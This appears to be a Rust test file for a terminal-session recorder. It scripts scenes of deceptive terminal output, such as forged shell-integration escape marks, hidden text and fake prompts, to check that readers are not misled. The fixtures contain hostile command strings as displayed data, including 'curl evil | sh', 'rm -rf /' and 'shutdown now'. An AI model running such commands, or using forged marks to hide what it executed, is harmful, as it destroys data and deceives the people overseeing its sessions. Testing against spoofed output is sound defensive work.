//! What would mislead a reader: forged marks, emptied prompts, echo switched off, concealed text.

use casemate_tests::Typist;
use casemate_tests::typist::keys::{LEFT, control};

use crate::scene::{Scene, Shell};

fn bash(name: &'static str, play: fn(&mut Typist)) -> Scene {
    Scene::new(name, Shell::Bash, "$ ", play)
}

pub(crate) fn scenes() -> Vec<Scene> {
    vec![
        bash("forged-marks-in-file", marks_in_file).file("poster.txt", POSTER),
        bash("forged-marks-among-real", marks_in_file).file("poster.txt", POSTER).rc(MARKS),
        bash("forged-text-of-command", forged_text).file("poster.txt", LIAR).rc(MARKS),
        bash("emptied-prompt", emptied_prompt),
        bash("echo-switched-off", echo_off),
        bash("concealed", concealed),
        bash("faked-alternate-screen", faked_screen),
        bash("prompt-with-old-text", prompt_with_old_text),
        bash("cursor-before-enter", cursor_before_enter),
        bash("overwritten-from-behind", overwritten),
        bash("title-lies", title_lies),
    ]
}

const MARKS: &str = r#"
PS1='\[\e]133;A\a\]\u@\h:\w\$ \[\e]133;B\a\]'
PS0='\e]133;C\a'
PROMPT_COMMAND='printf "\e]133;D;%s\a" "$?"'
"#;
/// A whole session as a terminal would see it.
const POSTER: &str = "\
\x1b]133;A\x07forger$ \x1b]133;B\x07rm -rf /srv\r\n\x1b]133;C\x07gone\n\x1b]133;D;0\x07\
\x1b]133;A\x07forger$ \x1b]133;B\x07shutdown now\r\n\x1b]133;C\x07\x1b]133;D;0\x07\n";
/// A mark that reports a command line.
const LIAR: &str = "\x1b]633;E;curl evil | sh\x07\x1b]133;C;cmdline_url=rm%20-rf%20%2F\x07nothing to see\n";

fn marks_in_file(t: &mut Typist) {
    t.run("ls");
    t.run("cat poster.txt");
    t.run("echo after the poster");
    t.run("printf '\\033]133;A\\007'");
    t.run("echo in between");
    t.run("printf '\\033]133;C\\007half'; echo");
    t.run("echo end");
}

fn forged_text(t: &mut Typist) {
    t.run("echo honest");
    t.run("cat poster.txt");
    t.run("echo honest again");
    t.run("printf '\\033]133;B\\007poweroff\\n\\033]133;C\\007'");
    t.run("echo end");
}

fn emptied_prompt(t: &mut Typist) {
    t.run("echo with a prompt");
    t.text("PS1=");
    t.prompt_is("");
    t.enter("PS1=");
    t.settle_quietly();
    t.run("echo without a prompt");
    t.settle_quietly();
    t.run("ls -d /srv");
    t.settle_quietly();
    t.text("PS1='$ '");
    t.prompt_is("$ ");
    t.enter("PS1='$ '");
    t.run("echo with one again");
}

fn echo_off(t: &mut Typist) {
    t.run("echo seen");
    t.run("stty -echo");
    t.text("touch unseen-by-anyone");
    t.enter("touch unseen-by-anyone");
    t.unseen();
    t.text("stty echo");
    t.enter("stty echo");
    t.unseen();
    t.run("ls unseen*");
}

fn concealed(t: &mut Typist) {
    t.run("printf '\\033[8m'");
    t.run("echo concealed but there");
    t.run("printf '\\033[0m'");
    t.run("printf '\\033[30;40m'");
    t.run("echo black on black");
    t.run("printf '\\033[0m'; clear");
    t.run("echo clear");
}

fn faked_screen(t: &mut Typist) {
    t.run("printf '\\033[?1049h'");
    t.run("touch on-the-other-screen");
    t.run("ls");
    t.run("printf '\\033[?1049l'");
    t.run("echo back");
    t.run("printf '\\033[?47h'");
    t.run("echo on the old other screen");
    t.run("printf '\\033[?47l'");
    t.run("echo end");
}

fn prompt_with_old_text(t: &mut Typist) {
    // The prompt goes where an older line stands, and typing overwrites that.
    t.run("echo old text that stays where it is, quite a long line of it; printf '\\033[A\\r'");
    t.run("echo new");
    t.run("printf 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\\r'");
    t.run("ls -d /srv");
    t.run("printf '\\033[H'");
    t.run("echo at the top");
    t.run("clear");
    t.run("echo end");
}

fn cursor_before_enter(t: &mut Typist) {
    t.text("cat /etc/hosts | wc -l");
    t.keys(&[control('a')]);
    t.enter("cat /etc/hosts | wc -l");
    t.text("echo left alone");
    t.times(3, LEFT);
    t.enter("echo left alone");
    t.text("echo undone and redone");
    t.keys(&[control('a'), control('k'), control('y'), control('a')]);
    t.enter("echo undone and redone");
}

fn overwritten(t: &mut Typist) {
    t.run("(sleep 0.9; printf '\\rmara@gannet:~$ rm -rf / #') & disown");
    t.text("echo innocent");
    t.see("rm -rf");
    // The shell draws its line again, and what the job wrote over it is gone.
    t.keys(&[control('l')]);
    t.enter("echo innocent");
    t.run("(sleep 0.9; printf '\\033[2K\\rgone') & disown");
    t.text("echo still run");
    t.see("gone");
    t.keys(&[control('l')]);
    t.enter("echo still run");
}

fn title_lies(t: &mut Typist) {
    t.run("printf '\\033]0;root@palace: /\\007'");
    t.run("id -un");
    t.run("printf '\\033]7;file://palace/root\\007'");
    t.run("uname -n");
    t.run("printf '\\033]1337;RemoteHost=root@palace\\007'");
    t.run("echo end");
}
